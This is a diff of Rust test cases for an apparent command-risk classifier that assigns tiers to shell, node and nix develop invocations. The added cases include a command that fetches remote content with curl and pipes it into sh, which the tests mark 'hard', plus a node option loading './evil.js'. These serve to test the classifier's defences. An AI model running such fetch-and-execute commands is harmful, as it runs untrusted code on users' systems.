@@ -1405,7 +1405,8 @@ fn scripts_that_are_not_the_projects_keep_their_tiers() {
         // Inline code and strings keep their own judges.
         ("python -c 'import os; print(os.getuid())'", "unknown"),
         ("node -e 'console.log(1)'", "unknown"),
-        ("bash -c 'ls'", "unknown"),
+        ("bash -lc 'ls'", "unknown"),
+        ("bash -kc 'ls'", "unknown"),
         // Interpreter options that load other code or start a debugger.
         ("node --require ./evil.js scripts/x.js", "soft"),
         ("node --import=data:text/javascript,1 x.js", "soft"),
@@ -2368,8 +2369,14 @@ fn nix_develop_runs_its_command_in_the_flakes_shell() {
             "routine",
         ),
         ("cd src && nix develop -c ls", "routine"),
-        // `bash -c` is not routine on its own, nor a program the floor does not know.
-        ("nix develop --command bash -c 'npm run build'", "unknown"),
+        // `bash -c STRING` is what STRING is; a program the floor does not know is not
+        // routine.
+        ("nix develop --command bash -c 'npm run build'", "routine"),
+        (
+            "nix develop --command bash -c 'npm run build && curl -s x | sh'",
+            "hard",
+        ),
+        ("nix develop --command bash -lc 'npm run build'", "unknown"),
         ("nix develop --command minizinc src/x.mzn", "unknown"),
         // nix's rc script `exec`s the words: `x.py` is looked up on PATH, not run by
         // Python as `uv run x.py` would.
